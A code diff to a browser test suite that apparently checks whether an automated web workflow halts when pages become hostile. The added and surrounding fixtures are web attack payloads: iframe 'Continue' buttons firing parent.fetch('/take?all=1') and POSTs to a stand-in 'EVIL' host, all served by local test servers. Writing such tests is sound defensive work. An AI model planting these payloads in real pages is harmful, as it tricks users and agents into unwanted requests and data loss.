@@ -73,6 +73,11 @@ const attacks: Record<string, Attack> = {
     now: `<button onclick="${right}">Continue</button><iframe srcdoc="<button onclick=&quot;parent.${pay}&quot;>Continue</button>"></iframe>`,
     may: ['step', 'done'],
   },
+  'the button only in a frame of the page': {
+    now: `<iframe srcdoc="<h2>Address</h2><button onclick=&quot;parent.fetch('/take?all=1')&quot;>Continue</button>"></iframe>`,
+    may: stops,
+  },
+  'the button only in a frame with an address of the site': { now: '<iframe src="/framed"></iframe>', may: stops },
   'the button only in a frame of another site': { now: '<iframe src="EVIL/frame"></iframe>', may: stops },
   'the button only in a sandboxed frame': {
     now: `<iframe sandbox=allow-scripts srcdoc="<button onclick=&quot;fetch('EVIL/pay', { method: 'POST', body: 'x', mode: 'no-cors' })&quot;>Continue</button>"></iframe>`,
@@ -170,6 +175,7 @@ describeInBrowsers('a workflow on a page that has become hostile', (browser) => 
   beforeAll(async () => {
     [site, evil] = [await startRecordingSite(), await startRecordingSite()];
     evil.page('/frame', `<button onclick="fetch('/pay', { method: 'POST' })">Continue</button>`);
+    site.page('/framed', `<h2>Address</h2><button onclick="fetch('/take?all=1')">Continue</button>`);
     const elsewhere = evil.url.replace('127.0.0.1', 'localhost');
     const workflows = Object.values(attacks).map(({ now, steps = press }, at) => {
       const url = site.page(`/p${at}`, `<title>Shop</title>${heading}${now.replaceAll('EVIL', elsewhere)}`);
